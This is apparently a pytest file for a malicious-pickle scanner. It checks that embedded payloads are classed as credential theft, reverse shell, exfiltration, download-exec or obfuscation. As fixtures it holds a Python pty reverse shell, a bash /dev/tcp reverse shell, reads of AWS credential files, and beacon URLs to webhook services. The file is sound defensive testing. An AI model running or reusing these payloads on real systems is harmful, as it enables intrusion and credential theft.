"""Categories come from the constant payload (the embedded-code assessment), else from the callable."""

from __future__ import annotations

import base64

import pytest

from malhug.core.model import Category, Severity
from tests.builders.pickles import Call, call, pickle_of
from tests.pickle.helpers import scan, summary

REVERSE_SHELL = (
    "import socket,os,pty\n"
    "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
    "s.connect(('127.0.0.1',4242))\n"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\n"
    "pty.spawn('/bin/sh')\n"
)


def _category(expr: Call, protocol: int = 2) -> tuple[str, Category, Severity]:
    report = scan(pickle_of([expr], protocol=protocol))
    top = [f for f in report.findings if f.severity >= Severity.HIGH]
    assert top, summary(report)
    return top[0].rule, top[0].category, top[0].severity


@pytest.mark.parametrize(
    ("command", "category"),
    [
        ("cat ~/.aws/secrets", Category.CREDENTIAL_THEFT),
        ("touch /tmp/malhug-sentinel-x", Category.FILE_WRITE),
        ("id", Category.RECON),
        ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", Category.REVERSE_SHELL),
        ("echo pwned", Category.COMMAND_EXEC),
    ],
)
def test_shell_payload_decides_the_category(command: str, category: Category) -> None:
    assert _category(call("posix.system", command)) == ("MH101", category, Severity.CRITICAL)


def test_reverse_shell_through_exec() -> None:
    assert _category(call("builtins.exec", REVERSE_SHELL)) == ("MH101", Category.REVERSE_SHELL, Severity.CRITICAL)


def test_beacon_through_urlopen_is_exfiltration() -> None:
    rule, category, _ = _category(call("urllib.request.urlopen", "https://eo0000.m.pipedream.net"), protocol=4)
    assert (rule, category) == ("MH101", Category.EXFILTRATION)


def test_decoded_opaque_payload_is_obfuscation() -> None:
    code = base64.b64encode(b"x = 1 + 1").decode()
    assert _category(call("builtins.exec", call("base64.b64decode", code))) == (
        "MH105",
        Category.OBFUSCATION,
        Severity.CRITICAL,
    )


def test_callable_category_without_a_constant_payload() -> None:
    """No constant payload: the callable's own category (docs/CATEGORIES.md)."""
    computed = Call(call("builtins.getattr", call("mytools.config.Settings"), "command"), ())
    assert _category(call("os.system", computed)) == ("MH101", Category.COMMAND_EXEC, Severity.HIGH)
    assert _category(call("builtins.exec", computed)) == ("MH101", Category.CODE_EXEC, Severity.HIGH)
    assert _category(call("shutil.rmtree", computed)) == ("MH101", Category.DESTRUCTIVE, Severity.HIGH)


@pytest.mark.parametrize(
    ("expr", "category"),
    [
        (call("pip.main", ["install", "malhug-nothing"]), Category.DOWNLOAD_EXEC),
        (call("torch.hub.load", "owner/repo", "model"), Category.DOWNLOAD_EXEC),
        (call("webbrowser.open", "https://127.0.0.1/x"), Category.COMMAND_EXEC),
        (call("requests.get", "https://webhook.site/0000"), Category.EXFILTRATION),
        (call("builtins.open", "/tmp/malhug-x", "w"), Category.FILE_WRITE),
        (call("builtins.open", "/home/u/.aws/credentials"), Category.CREDENTIAL_THEFT),
    ],
)
def test_library_calls_with_constant_arguments(expr: Call, category: Category) -> None:
    assert _category(expr, protocol=4) == ("MH101", category, Severity.CRITICAL)
